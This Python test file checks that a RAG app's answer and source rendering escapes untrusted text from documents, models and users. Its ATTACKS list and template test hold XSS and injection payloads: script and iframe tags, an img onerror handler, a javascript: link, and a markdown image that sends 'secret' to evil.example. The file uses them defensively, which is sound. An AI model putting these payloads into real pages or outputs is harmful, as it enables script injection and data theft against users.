"""What documents, models and users wrote can be read and can do nothing else."""

from datetime import UTC, datetime, timedelta

import pytest

from rag_app.ui import plain, render, why
from rag_core.models import (
    Answer,
    Citation,
    Explain,
    Passage,
    SentenceSupport,
    Timings,
    Tokens,
    Why,
)
from rag_core.words import words

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![stolen](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example/x",
    "www.evil.example",
    "</details></div><h1>Ragdock</h1>",
    "a\n\n# Heading\n\n<iframe src=//evil.example>",
]


def test_words_of_the_question_are_marked_in_every_script() -> None:
    shown = plain.lines("\u6cf5\u7684\u538b\u529b <40> reads", words("\u6cf5\u7684\u538b\u529b? reading"))
    assert shown == "<mark>\u6cf5\u7684\u538b\u529b</mark> &lt;40&gt; <mark>reads</mark>"
    apart = plain.lines("\u6cf5\u7684\u538b\u529b", words("\u538b\u529b"))
    assert apart == "\u6cf5\u7684<mark>\u538b\u529b</mark>"


@pytest.mark.parametrize("attack", ATTACKS)
def test_model_text_makes_no_tag_link_or_image(attack: str) -> None:
    shown = render.model_markdown(f"Before. {attack} After.")
    assert "<" not in shown
    assert "](" not in shown
    assert "://" not in shown
    assert "www." not in shown


@pytest.mark.parametrize("attack", ATTACKS)
def test_passages_stay_inside_their_box(attack: str) -> None:
    """A blank line would end the HTML block, and Markdown would read what follows."""
    citation = Citation(
        number=1, document_id="x", document=attack, title=attack, page_start=3, page_end=4, passage=attack
    )
    answer = Answer(answer="Yes [1].", citations=(citation,), model="m", timings=Timings(total=1.0))
    [_, sources, _] = render.answer_markdown(answer, f"What of {attack}?").split("\n\n")
    assert sources.startswith('<div class="rd-sources">')
    assert sources.endswith("</details></div>")
    assert sources.count("<details") == sources.count("</details>") == 1
    for forbidden in ("<script", "<img", "<iframe", "<h1", "<a", "](", "://"):
        assert forbidden not in sources


@pytest.mark.parametrize("attack", ATTACKS)
def test_reasons_for_an_answer_stay_inside_their_box(attack: str) -> None:
    passage = Passage(
        document_id="x", document=attack, title=attack, page_start=3, page_end=4, text=attack, score=0.1
    )
    answer = Answer(answer="Yes.", passages=(passage,), model=attack)
    *_, why, foot = render.answer_markdown(answer).split("\n\n")
    assert why.startswith('<details class="rd-why">')
    assert why.endswith("</details>")
    for forbidden in ("<script", "<img", "<iframe", "<h1", "<a", "](", "://"):
        assert forbidden not in why + foot


def test_code_is_left_as_it_is() -> None:
    shown = render.model_markdown("Write `x <- c(1)` or\n```r\ny <- a[1]\n```\nand z < 3 [1].")
    assert "`x <- c(1)`" in shown
    assert "y <- a[1]" in shown
    assert "z &lt; 3" in shown


def test_marks_become_something_to_click() -> None:
    assert render.model_markdown("So [1, 2] it is [12].") == (
        'So <button class="rd-cite" value="1" title="Read source 1">1</button>'
        '<button class="rd-cite" value="2" title="Read source 2">2</button>'
        ' it is <button class="rd-cite" value="12" title="Read source 12">12</button>.'
    )


def test_gradios_templates_are_not_run() -> None:
    shown = plain.text("${alert(1)} {{#each x}} <b>")
    assert "${" not in shown
    assert "{{" not in shown
    assert "<" not in shown


def test_answer_without_citation_offers_what_was_found() -> None:
    passage = Passage(
        document_id="x", document="a.pdf", title="", page_start=7, page_end=7, text="Near.", score=0.1
    )
    answer = Answer(answer="Not held.", passages=(passage,), reason="no_relevant_passage")
    shown = render.answer_markdown(answer)
    assert "Nearest passages" in shown
    assert "<b>a.pdf</b>, page 7" in shown


def _answer(text: str, *sentences: tuple[str, tuple[int, ...]], **more: object) -> Answer:
    supports = tuple(SentenceSupport(text=words, citations=marks) for words, marks in sentences)
    return Answer.model_validate({"answer": text, "sentences": supports, "model": "m", **more})


def test_sentence_without_support_is_told_apart() -> None:
    shown = render.answer_markdown(
        _answer("It is so. [1] It is big.", ("It is so.", (1,)), ("It is big.", ()))
    )
    assert '<span class="rd-unsupported">It is big.</span><sup class="rd-doubt"' in shown
    assert "It is so. <button" in shown
    assert "not wholly supported by any passage" in shown


def test_supported_answer_is_not_doubted() -> None:
    shown = render.answer_markdown(_answer("It is so. [1]", ("It is so.", (1,))))
    assert "rd-doubt" not in shown
    assert "not wholly supported by any passage" not in shown


def test_marks_of_doubt_leave_lists_headings_and_code_whole() -> None:
    text = "# Heading one.\n- first point.\n2. second point.\n`x = 1.`"
    lines = text.splitlines()
    shown = render.answer_markdown(_answer(text, *((line, ()) for line in lines)))
    body = shown.split("\n\n", maxsplit=1)[0].splitlines()
    assert [line[:3] for line in body] == ["# <", "- <", "2. ", "`x "]
    assert body[3] == "`x = 1.`"


def test_same_sentence_twice_is_marked_in_its_own_place() -> None:
    shown = render.answer_markdown(_answer("So. [1] So.", ("So.", (1,)), ("So.", ())))
    assert shown.startswith("So. <button")
    assert '<span class="rd-unsupported">So.</span>' in shown


def test_words_of_the_question_are_marked_in_the_passage() -> None:
    shown = plain.lines("Matrices are solved\nhere.", words("How to solve a matrix?"))
    assert shown == "Matrices are <mark>solved</mark><br>here."


@pytest.mark.parametrize("attack", ATTACKS)
def test_whole_explanation_is_told_and_harmless(attack: str) -> None:
    explain = Explain(
        query=attack,
        rewritten=True,
        routing=attack,
        needed=0.3,
        nearest=0.61,
        words={attack: 12},
        passages=(
            Why(
                document_id="x",
                document="a.pdf",
                page_start=3,
                page_end=3,
                score=0.1,
                bm25_rank=2,
                bm25_score=7.0,
                vector_rank=None,
                similarity=0.5,
                words=("green", attack),
                given=True,
            ),
        ),
    )
    shown = why.panel(_answer("So.", explain=explain, tokens=Tokens(prompt=812, answer=40)))
    assert "completed from the conversation" in shown
    assert "0.61 alike" in shown
    assert "<td>green, " in shown
    assert "<dd>812</dd>" in shown
    assert "\n" not in shown
    for forbidden in ("<script", "<img", "<iframe", "<h1", "<a", "](", "://"):
        assert forbidden not in shown


def test_remembered_answer_says_so() -> None:
    assert "remembered</span>" in render.answer_markdown(_answer("So.", cached=True))
    assert "remembered" not in render.answer_markdown(_answer("So."))


def test_degraded_answer_says_so() -> None:
    answer = Answer(answer="Well.", model="small", degraded=True, reason="fallback_model")
    assert render.REASONS["fallback_model"] in render.answer_markdown(answer)


@pytest.mark.parametrize(
    ("seconds", "words"),
    [(5, "just now"), (61, "1 minute ago"), (7300, "2 hours ago"), (200_000, "2 days ago")],
)
def test_ages_for_people(seconds: int, words: str) -> None:
    assert plain.ago(datetime.now(UTC) - timedelta(seconds=seconds)) == words


@pytest.mark.parametrize(
    ("text", "closing"),
    [
        ("Do:\n\n```r\nx <- 1", "```"),
        ("Do:\n\n````\n```\nx", "````"),
        ("~~~\nx\n```", "~~~"),
        ("```\nx\n``` and more", "```"),
        ("```\nx\n```\n\nDone.", ""),
        ("It is `x`, or ```x```.", ""),
    ],
)
def test_code_that_a_model_left_open_does_not_swallow_what_follows(text: str, closing: str) -> None:
    shown = render.answer_markdown(_answer(text))
    body, _, rest = shown.partition('<div class="rd-foot')
    assert rest
    assert body.rstrip().endswith(f"\n{closing}" if closing else text[-1])
